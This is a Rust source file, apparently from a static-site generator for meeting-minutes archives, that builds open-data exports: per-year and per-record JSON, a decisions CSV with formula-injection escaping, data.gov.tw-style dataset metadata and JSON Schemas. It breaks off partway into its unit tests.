//! Open data: every published record as structured data.
//!
//! - `data/minutes/<year>.json` — the records of one year ([`RecordData`] in the archive's
//!   header), so that no file grows with the whole archive;
//! - `data/minutes.json` — the whole archive in one file, when `full_data_file: true`;
//! - `data/minutes/<year>/<slug>.json` — one record;
//! - `data/decisions.csv` — one row per agenda item (UTF-8 with BOM, RFC 4180 quoting, CRLF);
//! - `data/dataset.json` — a dataset description in the shape of data.gov.tw's metadata;
//! - `data/schema/{minutes,record,dataset}.schema.json` — JSON Schemas (draft 2020-12).
//!
//! Nothing depends on the clock: dates come from the records.

use chrono::Datelike;
use serde::Serialize;
use serde_json::{json, Value};

use crate::config::Registry;
use crate::meta::{newest, oldest, publisher, site_description};
use crate::minutes::calendar;
use crate::model::{Archive, Record};
use crate::output::{OutputError, Sink, Streamed};

pub const SCHEMA_DRAFT: &str = "https://json-schema.org/draft/2020-12/schema";

/// A unit, topic or series as the data names it.
#[derive(Debug, Clone, Serialize)]
pub struct Term {
    pub slug: String,
    pub name: String,
    pub en: Option<String>,
    pub url: String,
}

#[derive(Debug, Clone, Serialize)]
pub struct Item {
    pub label: String,
    pub title: String,
    pub url: String,
    /// Slugs of the reporting or proposing units (named in `data/registry.json`).
    pub units: Vec<String>,
    pub decision: String,
    /// The record's own label for the decision (決定, 決議, 大會決議, 主席裁示…); `None` when the
    /// item has no decision.
    pub decision_label: Option<&'static str>,
    /// report, discussion, motion, election or other.
    pub kind: &'static str,
    /// The vote's counts and roll-call names, when the item records them.
    pub votes: Option<Value>,
    /// People named on the item (提案人, 動議人, 連署人, 附議人, 報告人): `{role, name}`.
    pub people: Vec<Value>,
}

#[derive(Debug, Clone, Serialize)]
pub struct Report {
    /// The unit's slug (named in `data/registry.json`).
    pub unit: String,
    pub heading: String,
    pub url: String,
}

/// One record, as `data/minutes/<year>/<slug>.json` and in `minutes.json`.
#[derive(Debug, Clone, Serialize)]
pub struct RecordData {
    pub title: String,
    pub url: String,
    pub json_url: String,
    pub series: Term,
    pub number: Option<u32>,
    pub date: String,
    pub date_roc: String,
    pub roc_year: i32,
    pub time: Option<String>,
    pub location: Option<String>,
    pub chair: Option<String>,
    pub recorder: Option<String>,
    pub attendees: Vec<String>,
    /// Slugs of the listed units and topics: each is named once, in `data/registry.json` and in
    /// the year file's `units` and `topics`, not again in every record (format version 4).
    pub units: Vec<String>,
    pub topics: Vec<String>,
    pub summary: String,
    pub agenda: Vec<Item>,
    pub reports: Vec<Report>,
    /// Slugs of every registered unit the text names.
    pub mentions: Vec<String>,
    /// Official files published with the record (`attachments:` in its front-matter).
    pub attachments: Vec<AttachmentData>,
}

/// One attachment of a record in the open data.
#[derive(Debug, Clone, Serialize)]
pub struct AttachmentData {
    pub title: String,
    pub url: String,
    /// Its kind, as the record page names it (`PDF`, `Word`, …).
    #[serde(rename = "type")]
    pub kind: &'static str,
    pub bytes: u64,
}

/// The site-relative URL of a record's attachment: beside its page, the name percent-encoded.
pub fn attachment_url(r: &Record, a: &crate::content::record::Attachment) -> String {
    format!("{}{}", r.url, encode_fragment(&a.name))
}

/// A file of the data set.
#[derive(Debug, Clone, Serialize)]
pub struct DataFile {
    /// Site-relative path, e.g. `data/minutes.json`.
    pub path: String,
    pub url: String,
    pub format: &'static str,
    pub media_type: &'static str,
    /// In Chinese, as `dataset.json` (for data.gov.tw) gives it.
    pub description: String,
    /// In English, for the `/data/` page of an English site.
    pub description_en: &'static str,
    pub schema_url: Option<String>,
}

fn term(archive: &Archive, kind: &str, reg: &Registry, slug: &str, fallback: &str) -> Term {
    let e = reg.by_slug(slug);
    Term {
        slug: slug.to_string(),
        name: e.map(|e| e.name.clone()).unwrap_or_else(|| fallback.to_string()),
        en: e.and_then(|e| e.en.clone()),
        url: archive.site.absolute_url(&format!("{kind}/{slug}/")),
    }
}

/// One registry as the data names it: slug → `{name, en, url}` (sorted by slug).
fn registry_map(archive: &Archive, kind: &str, reg: &Registry) -> Value {
    let map: serde_json::Map<String, Value> = reg
        .entries
        .iter()
        .map(|e| {
            let t = term(archive, kind, reg, &e.slug, &e.name);
            (t.slug, json!({ "name": t.name, "en": t.en, "url": t.url }))
        })
        .collect();
    Value::Object(map)
}

/// `data/registry.json`: every unit, topic and series the records name by slug.
pub fn registry_json(archive: &Archive) -> Value {
    json!({
        "$schema": archive.site.absolute_url("data/schema/registry.schema.json"),
        "units": registry_map(archive, "units", &archive.units),
        "topics": registry_map(archive, "topics", &archive.topics),
        "series": registry_map(archive, "series", &archive.series),
    })
}

/// Where a record's JSON lives: `data/minutes/<year>/<slug>.json`.
pub fn record_json_path(r: &Record) -> String {
    format!("data/minutes/{}/{}.json", r.meta.date.year(), r.meta.slug)
}

/// Percent-encode a fragment so data URLs are plain URIs (`案由一` → `%E6%A1%88…`).
pub fn encode_fragment(s: &str) -> String {
    const HEX: &[u8; 16] = b"0123456789ABCDEF";
    let mut out = String::with_capacity(s.len() * 3);
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(b as char);
        } else {
            out.push('%');
            out.push(HEX[usize::from(b >> 4)] as char);
            out.push(HEX[usize::from(b & 15)] as char);
        }
    }
    out
}

pub fn record_data(archive: &Archive, r: &Record) -> RecordData {
    let site = &archive.site;
    let page = site.absolute_url(&r.url);
    RecordData {
        title: r.meta.title.clone(),
        url: page.clone(),
        json_url: site.absolute_url(&record_json_path(r)),
        series: term(
            archive,
            "series",
            &archive.series,
            &r.meta.series.slug,
            &r.meta.series.name,
        ),
        number: r.meta.number,
        date: r.meta.date.to_string(),
        date_roc: calendar::format_roc_short(r.meta.date),
        roc_year: calendar::roc_year(r.meta.date),
        time: r.meta.time.clone(),
        location: r.meta.location.clone(),
        chair: r.meta.chair.clone(),
        recorder: r.meta.recorder.clone(),
        attendees: r.meta.attendees.clone(),
        units: r.meta.units.iter().map(|u| u.slug.to_string()).collect(),
        topics: r.meta.topics.iter().map(|u| u.slug.to_string()).collect(),
        summary: r.excerpt(200),
        agenda: r
            .structure
            .agenda
            .iter()
            .map(|it| Item {
                label: it.label.clone(),
                title: it.title.clone(),
                url: format!("{page}#{}", encode_fragment(&it.anchor)),
                units: it.units.clone(),
                decision: it.decision.clone(),
                decision_label: Some(it.decision_label).filter(|l| !l.is_empty()),
                kind: it.kind.as_str(),
                votes: it.votes.as_ref().map(|v| {
                    json!({
                        "present": v.present,
                        "for": v.yes,
                        "against": v.against,
                        "abstain": v.abstain,
                        "result": v.result,
                        "names": v.names.iter().map(|(side, name)| json!({"side": side, "name": name})).collect::<Vec<_>>(),
                    })
                }),
                people: it.people.iter().map(|(role, name)| json!({"role": role, "name": name})).collect(),
            })
            .collect(),
        reports: r
            .structure
            .reports
            .iter()
            .map(|rp| Report {
                unit: rp.unit.clone(),
                heading: rp.heading.clone(),
                url: format!("{page}#{}", encode_fragment(&rp.anchor)),
            })
            .collect(),
        mentions: r.structure.mentions.clone(),
        attachments: r
            .meta
            .attachments
            .iter()
            .map(|a| AttachmentData {
                title: a.title.clone(),
                url: site.absolute_url(&attachment_url(r, a)),
                kind: a.kind,
                bytes: a.size,
            })
            .collect(),
    }
}

/// Serialize with sorted keys (serde_json's map is a BTreeMap) and a trailing newline.
fn to_json(v: &impl Serialize) -> String {
    let value = serde_json::to_value(v).expect("data serializes");
    let mut s = serde_json::to_string_pretty(&value).expect("data serializes");
    s.push('\n');
    s
}

/// `data/minutes.json` (or a year's file, `records` being those of the year) around its records
/// (written by [`add`], which splices them in as text).
fn minutes_json_with(archive: &Archive, records: &[Record], slot: Value) -> Value {
    let c = &archive.site.config;
    json!({
        "$schema": archive.site.absolute_url("data/schema/minutes.schema.json"),
        "title": c.title,
        "url": archive.site.absolute_url(""),
        "publisher": publisher(archive),
        "language": c.language,
        "license": c.license,
        "license_url": c.license_url,
        "updated": records.first().map(|r| r.meta.date.to_string()),
        "count": records.len(),
        "units": registry_map(archive, "units", &archive.units),
        "topics": registry_map(archive, "topics", &archive.topics),
        "records": slot,
    })
}

/// The records of each year, newest year first (records are newest first, so each year's are
/// together).
fn by_year(records: &[Record]) -> Vec<(i32, &[Record])> {
    let mut out: Vec<(i32, &[Record])> = Vec::new();
    let mut start = 0;
    for i in 1..=records.len() {
        if i == records.len() || records[i].meta.date.year() != records[start].meta.date.year() {
            out.push((records[start].meta.date.year(), &records[start..i]));
            start = i;
        }
    }
    out
}

/// The file of one year's records.
pub fn year_json_path(year: i32) -> String {
    format!("data/minutes/{year}.json")
}

/// The CSV columns: (header, description, description in English).
pub const CSV_COLUMNS: &[(&str, &str, &str)] = &[
    ("日期", "會議日期，西元年 YYYY-MM-DD", "Meeting date, YYYY-MM-DD"),
    (
        "民國日期",
        "會議日期，民國紀年（如 113年9月11日）",
        "Meeting date in the ROC calendar (e.g. 113年9月11日)",
    ),
    ("會議紀錄", "會議紀錄標題", "Title of the record"),
    ("會議", "會議名稱（系列）", "Name of the meeting series"),
    (
        "案由",
        "案由編號（如 案由一、臨時動議一、提案一）",
        "Item label (e.g. 案由一, 臨時動議一, 提案一)",
    ),
    ("案由標題", "案由全文標題", "Full title of the item"),
    (
        "單位",
        "報告或提案單位，多個以「、」分隔",
        "Reporting or proposing units, separated by 、",
    ),
    (
        "決定",
        "決定或決議全文，段落以換行分隔",
        "Full decision or resolution, paragraphs separated by line breaks",
    ),
    (
        "網址",
        "該案由在會議紀錄網頁上的網址",
        "URL of the item on the record's page",
    ),
    (
        "類型",
        "案由類型：report（報告）、discussion（討論）、motion（臨時動議）、election（選舉）、other（其他）",
        "Kind of item: report, discussion, motion, election or other",
    ),
    (
        "決定標籤",
        "紀錄寫在決定前的標籤（決定、決議、大會決議、主席裁示…；無決定時空白）",
        "The label the record writes before the decision (決定, 決議, 大會決議, 主席裁示…; empty when none)",
    ),
];

/// A CSV column for templates.
#[derive(Debug, Clone, Serialize)]
pub struct Column {
    /// The header as the CSV writes it (in Chinese).
    pub name: &'static str,
    pub description: &'static str,
    pub description_en: &'static str,
}

pub fn csv_columns() -> Vec<Column> {
    CSV_COLUMNS
        .iter()
        .map(|&(name, description, description_en)| Column {
            name,
            description,
            description_en,
        })
        .collect()
}

/// Quote a CSV field when it needs it (RFC 4180). Control characters other than tab, CR and LF
/// are dropped, and a cell a spreadsheet would read as a formula (starting with `= + - @`, tab or
/// CR) gets a leading `'`, as OWASP recommends against CSV injection.
pub fn csv_field(s: &str) -> String {
    let cleaned: String;
    let mut s = s;
    if s.chars().any(|c| c.is_control() && !matches!(c, '\t' | '\r' | '\n')) {
        cleaned = s
            .chars()
            .filter(|c| !c.is_control() || matches!(c, '\t' | '\r' | '\n'))
            .collect();
        s = &cleaned;
    }
    let neutral: String;
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        neutral = format!("'{s}");
        s = &neutral;
    }
    if s.contains([',', '"', '\n', '\r']) || s.starts_with(' ') || s.ends_with(' ') {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_string()
    }
}

/// The BOM and the header row of `data/decisions.csv` (UTF-8 with BOM, CRLF line ends, one row
/// per agenda item).
fn decisions_csv_header() -> String {
    let mut out = String::from("\u{FEFF}");
    let headers: Vec<&str> = CSV_COLUMNS.iter().map(|(h, _, _)| *h).collect();
    csv_row(&mut out, &headers);
    out
}

/// One record's rows of `decisions.csv`, one per agenda item.
fn decisions_csv_rows(archive: &Archive, d: &RecordData, out: &mut String) {
    for it in &d.agenda {
        let units: Vec<&str> = it
            .units
            .iter()
            .map(|u| archive.units.by_slug(u).map_or(u.as_str(), |e| e.name.as_str()))
            .collect();
        csv_row(
            out,
            &[
                &d.date,
                &d.date_roc,
                &d.title,
                &d.series.name,
                &it.label,
                &it.title,
                &units.join("、"),
                &it.decision.replace("\r\n", "\n"),
                &it.url,
                it.kind,
                it.decision_label.unwrap_or(""),
            ],
        );
    }
}

fn csv_row(out: &mut String, fields: &[&str]) {
    for (i, f) in fields.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        out.push_str(&csv_field(f));
    }
    out.push_str("\r\n");
}

/// The files of the data set, for `dataset.json` and the `/data/` page.
pub fn files(archive: &Archive) -> Vec<DataFile> {
    let site = &archive.site;
    let f =
        |path: &str, format, media_type, (description, description_en): (&str, &'static str), schema: Option<&str>| {
            DataFile {
                path: path.to_string(),
                url: site.absolute_url(path),
                format,
                media_type,
                description: description.to_string(),
                description_en,
                schema_url: schema.map(|s| site.absolute_url(&format!("data/schema/{s}"))),
            }
        };
    let full = site.config.full_data_file.then(|| {
        f(
            "data/minutes.json",
            "JSON",
            "application/json",
            (
                "全部會議紀錄的結構化資料：日期（西元與民國）、時間、地點、主席、紀錄、出席人員、單位、主題、案由與決定、業務報告、提及單位",
                "Every record as structured data: date (Western and ROC), time, place, chair, recorder, attendees, units, topics, agenda items and decisions, unit reports, units mentioned",
            ),
            Some("minutes.schema.json"),
        )
    });
    let years = by_year(&archive.records).into_iter().map(|(year, _)| {
        let roc = year - calendar::ROC_OFFSET;
        f(
            &year_json_path(year),
            "JSON",
            "application/json",
            (
                &format!("{year}年（民國{roc}年）會議紀錄的結構化資料，欄位同全部會議紀錄"),
                "The records of one year as structured data, in the same shape as the whole archive's",
            ),
            Some("minutes.schema.json"),
        )
    });
    full.into_iter()
        .chain(years)
        .chain(vec![
            f(
                "data/decisions.csv",
                "CSV",
                "text/csv",
                (
                    "每一案由一列：日期、民國日期、會議紀錄、會議、案由、案由標題、單位、決定、網址",
                    "One row per agenda item: date, ROC date, record, series, item, item title, units, decision, URL",
                ),
                None,
            ),
            f(
                "atom.xml",
                "Atom",
                "application/atom+xml",
                ("最新會議紀錄訂閱（Atom）", "Feed of the latest records (Atom)"),
                None,
            ),
            f(
                "data/dataset.json",
                "JSON",
                "application/json",
                ("本資料集的詮釋資料", "Metadata of this data set"),
                Some("dataset.schema.json"),
            ),
            f(
                "data/registry.json",
                "JSON",
                "application/json",
                (
                    "單位、主題與會議的名稱與網址，依代稱；會議紀錄資料中的單位與主題僅列代稱",
                    "Names and pages of the units, topics and meeting series by slug; the records name units and topics by slug only",
                ),
                Some("registry.schema.json"),
            ),
            f(
                "data/schema/record.schema.json",
                "JSON",
                "application/schema+json",
                (
                    "單筆會議紀錄 JSON（data/minutes/<年>/<代稱>.json）的 JSON Schema",
                    "JSON Schema of one record's JSON (data/minutes/<year>/<slug>.json)",
                ),
                None,
            ),
        ])
        .chain(crate::followups::data::files(archive))
        .collect()
}

/// `data/dataset.json`, keyed like the national open-data platform's dataset metadata.
pub fn dataset_json(archive: &Archive) -> Value {
    let c = &archive.site.config;
    let fields: Vec<String> = CSV_COLUMNS.iter().map(|(h, d, _)| format!("{h}：{d}")).collect();
    let resources: Vec<Value> = files(archive)
        .iter()
        .map(|f| {
            json!({
                "資料資源描述": f.description,
                "檔案格式": f.format,
                "編碼格式": "UTF-8",
                "資料下載網址": f.url,
                "詮釋資料": f.schema_url,
            })
        })
        .collect();
    json!({
        "$schema": archive.site.absolute_url("data/schema/dataset.schema.json"),
        "資料集名稱": c.title,
        "資料集描述": site_description(archive),
        "主要欄位說明": fields.join("；"),
        "提供機關": publisher(archive),
        "更新頻率": c.update_frequency,
        "授權方式": c.license,
        "授權說明網址": c.license_url,
        "計費方式": "免費",
        "資料提供屬性": "原始資料",
        "相關網址": archive.site.absolute_url(""),
        "語系": c.language,
        "資料量": archive.records.len(),
        "上架日期": oldest(archive).map(|d| d.to_string()),
        "更新日期": newest(archive).map(|d| d.to_string()),
        "資料資源": resources,
        "備註": "每筆會議紀錄另有單筆 JSON，網址見年度檔各筆之 json_url；單位與主題以代稱表示，名稱見 data/registry.json；資料格式見 data/schema/。",
    })
}

fn string_or_null(description: &str) -> Value {
    json!({ "type": ["string", "null"], "description": description })
}

fn term_schema() -> Value {
    json!({
        "type": "object",
        "description": "A unit, topic or meeting series from the site's registry.",
        "required": ["slug", "name", "url"],
        "properties": {
            "slug": { "type": "string", "description": "ASCII identifier used in URLs" },
            "name": { "type": "string", "description": "Name in Traditional Chinese" },
            "en": string_or_null("English name, if registered"),
            "url": { "type": "string", "format": "uri", "description": "Page listing its records" }
        },
        "additionalProperties": false
    })
}

fn slug_schema() -> Value {
    json!({ "type": "string", "description": "Slug of a unit or topic: a key of units or topics in data/registry.json" })
}

/// A registry: slug → its names and page.
fn registry_schema_of(what: &str) -> Value {
    json!({
        "type": "object",
        "description": what,
        "additionalProperties": {
            "type": "object",
            "required": ["name", "en", "url"],
            "properties": {
                "name": { "type": "string", "description": "Name in Traditional Chinese" },
                "en": string_or_null("English name, if registered"),
                "url": { "type": "string", "format": "uri", "description": "Page listing its records" }
            },
            "additionalProperties": false
        }
    })
}

/// The JSON Schema of `data/registry.json`.
pub fn registry_schema(archive: &Archive) -> Value {
    json!({
        "$schema": SCHEMA_DRAFT,
        "$id": archive.site.absolute_url("data/schema/registry.schema.json"),
        "title": "Registry of units, topics and meeting series",
        "description": "The names of every slug the records use in units, topics, mentions, agenda units and reports.",
        "type": "object",
        "required": ["units", "topics", "series"],
        "properties": {
            "$schema": { "type": "string" },
            "units": registry_schema_of("Units by slug"),
            "topics": registry_schema_of("Topics by slug"),
            "series": registry_schema_of("Meeting series by slug")
        },
        "additionalProperties": false
    })
}

/// The version of the record format, stated in its schema. 2: agenda items carry `kind`, `votes`
/// and `people`, and `decision_label` is any of the model's decision labels. 3: `attachments`.
/// 4: units, topics, mentions, agenda items' units and reports' unit are slugs, named once in
/// `data/registry.json` (and in each year file's `units` and `topics`).
pub const RECORD_SCHEMA_VERSION: &str = "record format version 4";

/// The JSON Schema of one record (`data/schema/record.schema.json`).
pub fn record_schema(archive: &Archive) -> Value {
    let date = json!({ "type": "string", "pattern": "^[0-9]{4}-[0-9]{2}-[0-9]{2}$", "description": "Meeting date, ISO 8601 (YYYY-MM-DD)" });
    let decision_labels: Vec<Value> = crate::minutes::DECISION_LABELS
        .iter()
        .map(|l| json!(l))
        .chain(std::iter::once(Value::Null))
        .collect();
    let decision_label_description = format!(
        "The label the record writes before the decision: {} (null when the item has no decision)",
        crate::minutes::DECISION_LABELS.join(", ")
    );
    let votes_schema = json!({
        "type": ["object", "null"],
        "description": "The vote as the item records it (表決結果：贊成 25 人、反對 3 人、棄權 1 人; 在場 N 人; 記名表決 names), null when it records none",
        "required": ["present", "for", "against", "abstain", "result", "names"],
        "properties": {
            "present": { "type": ["integer", "null"], "minimum": 0 },
            "for": { "type": ["integer", "null"], "minimum": 0 },
            "against": { "type": ["integer", "null"], "minimum": 0 },
            "abstain": { "type": ["integer", "null"], "minimum": 0 },
            "result": { "enum": ["passed", "failed", null] },
            "names": {
                "type": "array",
                "items": {
                    "type": "object",
                    "required": ["side", "name"],
                    "properties": { "side": { "enum": ["for", "against"] }, "name": { "type": "string" } },
                    "additionalProperties": false
                }
            }
        },
        "additionalProperties": false
    });
    let people_schema = json!({
        "type": "array",
        "description": "People named on the item under 提案人, 動議人, 連署人, 附議人, 報告人",
        "items": {
            "type": "object",
            "required": ["role", "name"],
            "properties": { "role": { "enum": ["proposer", "mover", "seconder", "reporter"] }, "name": { "type": "string" } },
            "additionalProperties": false
        }
    });
    let agenda_schema = json!({
        "type": "array",
        "description": "Agenda items in order",
        "items": {
            "type": "object",
            "required": ["label", "title", "url", "units", "decision", "decision_label", "kind", "votes", "people"],
            "properties": {
                "label": { "type": "string", "description": "e.g. 案由一, 討論事項二, 臨時動議一" },
                "title": { "type": "string", "description": "The item's whole heading, or for an item written as a paragraph the text after its label" },
                "url": { "type": "string", "format": "uri", "description": "Anchor on the record page: the item's heading, or the paragraph (list item, table row) it starts at" },
                "units": { "type": "array", "items": { "$ref": "#/$defs/slug" }, "description": "Slugs of the reporting or proposing units (named in data/registry.json)" },
                "decision": { "type": "string", "description": "Decision text, paragraphs separated by newlines (may be empty)" },
                "decision_label": { "enum": decision_labels, "description": decision_label_description },
                "kind": { "enum": ["report", "discussion", "motion", "election", "other"], "description": "The item's kind, from its label (臨時動議 → motion) or the section it is in (報告事項 → report, 討論事項 → discussion, 選舉事項 → election)" },
                "votes": votes_schema,
                "people": people_schema
            },
            "additionalProperties": false
        }
    });
    let attachments_schema = json!({
        "type": "array",
        "description": "Official files published with the record (the signed minutes, 附件), in the order its front-matter lists them",
        "items": {
            "type": "object",
            "required": ["title", "url", "type", "bytes"],
            "properties": {
                "title": { "type": "string" },
                "url": { "type": "string", "format": "uri", "description": "The file, beside the record's page" },
                "type": { "type": "string", "description": "Kind of file: PDF, Word, ODF Text, Excel, CSV, …" },
                "bytes": { "type": "integer", "minimum": 0, "description": "Size in bytes" }
            },
            "additionalProperties": false
        }
    });
    json!({
        "$schema": SCHEMA_DRAFT,
        "$id": archive.site.absolute_url("data/schema/record.schema.json"),
        "$comment": RECORD_SCHEMA_VERSION,
        "title": "Meeting record",
        "description": "One published meeting record with its structure, as data/minutes/<year>/<slug>.json and each element of records in data/minutes.json.",
        "type": "object",
        "required": ["title", "url", "json_url", "series", "number", "date", "date_roc", "roc_year", "time", "location", "chair", "recorder", "attendees", "units", "topics", "summary", "agenda", "reports", "mentions", "attachments"],
        "properties": {
            "$schema": { "type": "string" },
            "title": { "type": "string", "description": "Record title, e.g. 第4次主管會議紀錄" },
            "url": { "type": "string", "format": "uri", "description": "The record's web page" },
            "json_url": { "type": "string", "format": "uri", "description": "This record's JSON file" },
            "series": { "$ref": "#/$defs/term", "description": "Meeting series" },
            "number": { "type": ["integer", "null"], "minimum": 0, "description": "Meeting number within the series" },
            "date": date,
            "date_roc": { "type": "string", "description": "Meeting date in the Minguo (ROC) calendar, e.g. 113年9月11日" },
            "roc_year": { "type": "integer", "description": "Minguo year (Gregorian year - 1911)" },
            "time": string_or_null("Meeting time as written, e.g. 10:30-12:15"),
            "location": string_or_null("Meeting place"),
            "chair": string_or_null("Chair"),
            "recorder": string_or_null("Who took the minutes"),
            "attendees": { "type": "array", "items": { "type": "string" }, "description": "Attendees as listed" },
            "units": { "type": "array", "items": { "$ref": "#/$defs/slug" }, "description": "Slugs of the units the record lists (named in data/registry.json and in the year file's units)" },
            "topics": { "type": "array", "items": { "$ref": "#/$defs/slug" }, "description": "Slugs of the topics the record lists (named in data/registry.json and in the year file's topics)" },
            "summary": { "type": "string", "description": "Summary, or the beginning of the text" },
            "agenda": agenda_schema,
            "reports": {
                "type": "array",
                "description": "Unit reports (業務報告) in order",
                "items": {
                    "type": "object",
                    "required": ["unit", "heading", "url"],
                    "properties": {
                        "unit": { "$ref": "#/$defs/slug" },
                        "heading": { "type": "string" },
                        "url": { "type": "string", "format": "uri", "description": "Anchor on the record page" }
                    },
                    "additionalProperties": false
                }
            },
            "mentions": { "type": "array", "items": { "$ref": "#/$defs/slug" }, "description": "Slugs of every registered unit named anywhere in the text" },
            "attachments": attachments_schema
        },
        "additionalProperties": false,
        "$defs": { "term": term_schema(), "slug": slug_schema() }
    })
}

/// The JSON Schema of `data/minutes.json`; the record schema is embedded under `$defs`.
pub fn minutes_schema(archive: &Archive) -> Value {
    let mut record = record_schema(archive);
    let defs = record
        .as_object_mut()
        .and_then(|o| {
            o.remove("$schema");
            o.remove("$id");
            o.remove("$defs")
        })
        .unwrap_or(Value::Null);
    json!({
        "$schema": SCHEMA_DRAFT,
        "$id": archive.site.absolute_url("data/schema/minutes.schema.json"),
        "title": "Meeting minutes archive",
        "description": "Published records of the archive, newest first: one year's (data/minutes/<year>.json) or all of them (data/minutes.json).",
        "type": "object",
        "required": ["title", "url", "publisher", "language", "license", "license_url", "updated", "count", "units", "topics", "records"],
        "properties": {
            "$schema": { "type": "string" },
            "title": { "type": "string", "description": "Site title" },
            "url": { "type": "string", "format": "uri", "description": "Site home page" },
            "publisher": { "type": "string", "description": "Publishing organization" },
            "language": { "type": "string", "description": "BCP 47 language tag" },
            "license": { "type": "string", "description": "Licence name" },
            "license_url": { "type": "string", "description": "Licence text" },
            "updated": { "type": ["string", "null"], "description": "Newest record date (YYYY-MM-DD)" },
            "count": { "type": "integer", "minimum": 0, "description": "Number of records" },
            "units": registry_schema_of("Units by slug (the same as in data/registry.json)"),
            "topics": registry_schema_of("Topics by slug (the same as in data/registry.json)"),
            "records": { "type": "array", "items": { "$ref": "#/$defs/record" } }
        },
        "additionalProperties": false,
        "$defs": { "record": record, "term": defs["term"].clone(), "slug": defs["slug"].clone() }
    })
}

/// The JSON Schema of `data/dataset.json`.
pub fn dataset_schema(archive: &Archive) -> Value {
    let s = |d: &str| json!({ "type": "string", "description": d });
    json!({
        "$schema": SCHEMA_DRAFT,
        "$id": archive.site.absolute_url("data/schema/dataset.schema.json"),
        "title": "資料集詮釋資料",
        "description": "Dataset description with the field names of the national open-data platform (data.gov.tw).",
        "type": "object",
        "required": ["資料集名稱", "資料集描述", "主要欄位說明", "提供機關", "更新頻率", "授權方式", "授權說明網址", "計費方式", "資料資源", "上架日期", "更新日期"],
        "properties": {
            "$schema": { "type": "string" },
            "資料集名稱": s("Dataset name (the site title)"),
            "資料集描述": s("Dataset description"),
            "主要欄位說明": s("Main fields: the CSV columns, each 欄位：說明, separated by ；"),
            "提供機關": s("Providing agency"),
            "更新頻率": s("Update frequency"),
            "授權方式": s("Licence"),
            "授權說明網址": s("Licence URL"),
            "計費方式": s("Charging: 免費 (free)"),
            "資料提供屬性": s("Data provision type"),
            "相關網址": s("Related URL (the site)"),
            "語系": s("Language"),
            "資料量": { "type": "integer", "minimum": 0, "description": "Number of records" },
            "上架日期": { "type": ["string", "null"], "description": "Oldest record date" },
            "更新日期": { "type": ["string", "null"], "description": "Newest record date" },
            "資料資源": {
                "type": "array",
                "description": "Files of the dataset",
                "items": {
                    "type": "object",
                    "required": ["資料資源描述", "檔案格式", "編碼格式", "資料下載網址"],
                    "properties": {
                        "資料資源描述": s("What the file holds"),
                        "檔案格式": { "type": "string", "enum": ["JSON", "CSV", "Atom"] },
                        "編碼格式": { "const": "UTF-8" },
                        "資料下載網址": { "type": "string", "format": "uri" },
                        "詮釋資料": { "type": ["string", "null"], "description": "JSON Schema of the file" }
                    },
                    "additionalProperties": false
                }
            },
            "備註": s("Notes")
        },
        "additionalProperties": false
    })
}

/// Write every data file into the sink (each record's file as soon as it is made).
pub fn add(archive: &Archive, out: &Sink) -> Result<(), OutputError> {
    use rayon::prelude::*;
    // Each record is serialized once, compact, straight from its struct, in parallel: that text
    // goes into minutes.json, and with `"$schema"` put first it is the record's own file.
    let record_schema_url = archive.site.absolute_url("data/schema/record.schema.json");
    let schema_field = format!(
        "\"$schema\":{},",
        serde_json::to_string(&record_schema_url).expect("a string serializes")
    );
    // Each year's records go into their year's file, compact, spliced in as text a batch at a
    // time, straight to the file (only one batch of compact records is held); with
    // `full_data_file`, into the whole archive's file as well.
    const SLOT: &str = "\u{1}records\u{1}";
    let slot = serde_json::to_string(SLOT).expect("a string serializes");
    let header = |records: &[Record]| -> (String, usize) {
        let h = serde_json::to_string(&minutes_json_with(archive, records, Value::String(SLOT.into())))
            .expect("data serializes");
        let at = h.find(&slot).expect("the slot is in the header");
        (h, at)
    };
    // decisions.csv is made in the same pass, from the same data, and streamed to its file as
    // it is made too (14 MB at 10,000 records, held whole until the last year before).
    let write_years = |mut all: Option<&mut Streamed>, csv: &mut Streamed| -> Result<(), OutputError> {
        csv.push(decisions_csv_header())?;
        let mut first = true;
        for (year, records) in by_year(&archive.records) {
            let (head, at) = header(records);
            out.add_streamed(year_json_path(year), |file| {
                file.push(&head[..at])?;
                file.push("[")?;
                for (b, batch) in records.chunks(256).enumerate() {
                    let made: Vec<(String, String)> = batch
                        .par_iter()
                        .map(|r| {
                            let data = record_data(archive, r);
                            let compact = serde_json::to_string(&data).expect("data serializes");
                            let mut own = String::with_capacity(compact.len() + schema_field.len() + 2);
                            own.push('{');
                            own.push_str(&schema_field);
                            own.push_str(&compact[1..]);
                            own.push('\n');
                            out.add(record_json_path(r), own)?;
                            let mut rows = String::new();
                            decisions_csv_rows(archive, &data, &mut rows);
                            Ok((compact, rows))
                        })
                        .collect::<Result<_, OutputError>>()?;
                    for (i, (compact, rows)) in made.iter().enumerate() {
                        if b > 0 || i > 0 {
                            file.push(",")?;
                        }
                        file.push(compact)?;
                        if let Some(all) = all.as_deref_mut() {
                            if !first {
                                all.push(",")?;
                            }
                            all.push(compact)?;
                        }
                        first = false;
                        csv.push(rows)?;
                    }
                }
                file.push("]")?;
                file.push(&head[at + slot.len()..])?;
                file.push("\n")
            })?;
        }
        Ok(())
    };
    if archive.site.config.full_data_file {
        let (head, at) = header(&archive.records);
        out.add_streamed("data/minutes.json", |all| {
            all.push(&head[..at])?;
            all.push("[")?;
            out.add_streamed("data/decisions.csv", |csv| write_years(Some(&mut *all), csv))?;
            all.push("]")?;
            all.push(&head[at + slot.len()..])?;
            all.push("\n")
        })?;
    } else {
        out.add_streamed("data/decisions.csv", |csv| write_years(None, csv))?;
    }
    out.add("data/registry.json", to_json(&registry_json(archive)))?;
    out.add("data/dataset.json", to_json(&dataset_json(archive)))?;
    out.add("data/schema/minutes.schema.json", to_json(&minutes_schema(archive)))?;
    out.add("data/schema/record.schema.json", to_json(&record_schema(archive)))?;
    out.add("data/schema/dataset.schema.json", to_json(&dataset_schema(archive)))?;
    out.add("data/schema/registry.schema.json", to_json(&registry_schema(archive)))?;
    crate::followups::data::add(archive, out)?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::csv_field;

    #[test]
    fn quotes_csv() {
        assert_eq!(csv_field("a"), "a");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field("一\n二"), "\"一\n二\"");
    }

    #[test]
    fn formulas_are_neutralised_and_controls_dropped() {
        assert_eq!(
